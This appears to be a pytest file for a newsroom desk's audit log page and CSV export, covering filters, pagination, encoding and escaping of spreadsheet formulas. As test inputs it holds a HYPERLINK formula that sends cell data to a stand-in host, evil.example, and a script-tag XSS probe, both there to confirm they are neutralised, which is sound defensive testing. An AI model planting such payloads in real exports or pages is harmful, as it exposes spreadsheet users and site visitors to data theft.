"""The audit: filtered, a page by key at a time, and as CSV that no spreadsheet runs."""

import csv
import io

import pytest

from syndicate.core.spreadsheet import safe
from tests.desk.asked import counting
from tests.newsroom import NOON

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def wrote(desk, number=1, *, who="ana@news.example", what="look", subject="globe", **detail):
    with desk.store.begin() as tx:
        for _ in range(number):
            tx.audit.add(what, subject, who=who, at=NOON, **detail)


def rows(desk, query=""):
    """The CSV, read as a spreadsheet reads it."""
    answer = desk.signed_in("viewer").get(f"/desk/audit.csv?{query}")
    assert answer.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"))))


def test_what_was_done_is_shown_with_its_story(desk):
    story_id = desk.house.push().id
    desk.house.hold(story_id, reason="who said so?")
    page = desk.signed_in("viewer").get("/desk/audit").text
    assert "who said so?" in page
    assert f'href="/desk/stories/{story_id}"' in page


FILTERS = {
    "who": ("who=bea@news.example", {"who": "bea@news.example"}),
    "what": ("what=key-add", {"what": "key-add"}),
    "about": ("subject=times", {"subject": "times"}),
    "two": ("who=bea@news.example&what=key-add", {"who": "bea@news.example", "what": "key-add"}),
}


@pytest.mark.parametrize("name", FILTERS)
def test_only_what_is_asked_for_is_shown(desk, name):
    query, wanted = FILTERS[name]
    wrote(desk)
    for who in ("bea@news.example", "cem@news.example"):
        for what in ("key-add", "key-label"):
            for subject in ("times", "post"):
                wrote(desk, who=who, what=what, subject=subject)
    found = rows(desk, query)
    assert found
    assert all(row[column] == value for row in found for column, value in wanted.items())
    everything = rows(desk)
    assert len(found) == sum(all(row[c] == v for c, v in wanted.items()) for row in everything)


def test_the_acts_of_one_story_are_found_by_its_id_and_by_its_guid(desk):
    first, other = desk.house.push(), desk.house.push(external_id="b", url="https://oc-media.org/b/")
    desk.house.hold(first.id)
    by_id = rows(desk, f"story={first.id}")
    assert [row["what"] for row in by_id] == ["hold", "receive"]
    assert rows(desk, f"story={first.guid}") == by_id
    assert {row["story"] for row in rows(desk, f"story={other.id}")} == {other.id}


@pytest.mark.parametrize(("query", "there"), [("since=2026-03-04", True), ("until=2026-03-04", True)])
def test_a_day_is_whole(desk, query, there):
    wrote(desk, what="mark")
    assert bool([row for row in rows(desk, query) if row["what"] == "mark"]) is there
    beside = {"since=2026-03-04": "since=2026-03-05", "until=2026-03-04": "until=2026-03-03"}[query]
    assert not [row for row in rows(desk, beside) if row["what"] == "mark"]


@pytest.mark.parametrize("query", ["since=yesterday", "until=2026-13-01", "before=x"])
def test_what_cannot_be_read_is_told_at_its_field(desk, query):
    answer = desk.signed_in("viewer").get(f"/desk/audit?{query}")
    assert answer.status_code == 422
    assert "wrong" in answer.text


def test_pages_follow_by_key_and_hold_each_line_once(desk):
    for number in range(120):
        wrote(desk, what="mark", subject=f"subject-{number}")
    viewer, seen, address = desk.signed_in("viewer"), [], "/desk/audit?what=mark"
    while address:
        page = viewer.get(address).text
        seen += [line.split("</bdi>")[0] for line in page.split("<bdi>subject-")[1:]]
        older = page.partition('rel="next"')[2].partition('href="')[2].partition('"')[0].replace("&amp;", "&")
        wrote(desk, what="mark", subject="later")  # what comes meanwhile moves nothing
        address = older
    assert seen == [str(number) for number in reversed(range(120))]


def test_a_page_asks_as_many_questions_however_much_there_is(desk):
    wrote(desk)
    viewer = desk.signed_in("viewer")
    with counting(desk.store) as few:
        viewer.get("/desk/audit")
    wrote(desk, 200)
    with counting(desk.store) as many:
        viewer.get("/desk/audit")
    assert len(many) == len(few)


def test_all_of_it_is_written_out_however_long_it_is(desk):
    wrote(desk, 2500, what="mark")
    assert len(rows(desk, "what=mark")) == 2500


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_what_begins_as_a_formula_is_text(lead):
    assert safe(f"{lead}1") == f"'{lead}1"


@pytest.mark.parametrize("cell", ["", "1+1", "a=b", "ana@news.example", "'=1"])
def test_what_does_not_stays_as_it_is(cell):
    assert safe(cell) == cell


def test_names_from_outside_run_nowhere(desk):
    wrote(desk, who=EVIL, what="mark", subject="-2+3<script>alert(1)</script>", note=EVIL)
    (row,) = rows(desk, "what=mark")
    assert row["who"] == f"'{EVIL}"
    assert row["subject"].startswith("'-2+3")
    page = desk.signed_in("viewer").get("/desk/audit").text
    assert "<script>alert" not in page


def test_the_export_says_how_it_is_encoded_and_is_a_file(desk):
    wrote(desk, who="Արամ", what="mark")
    answer = desk.signed_in("viewer").get("/desk/audit.csv?what=mark")
    assert answer.data.startswith(b"\xef\xbb\xbf")
    assert "Արամ".encode() in answer.data
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    assert desk.nobody().get("/desk/audit.csv").status_code == 303
    assert desk.signed_in("viewer").get("/desk/audit.csv?since=x").status_code == 422
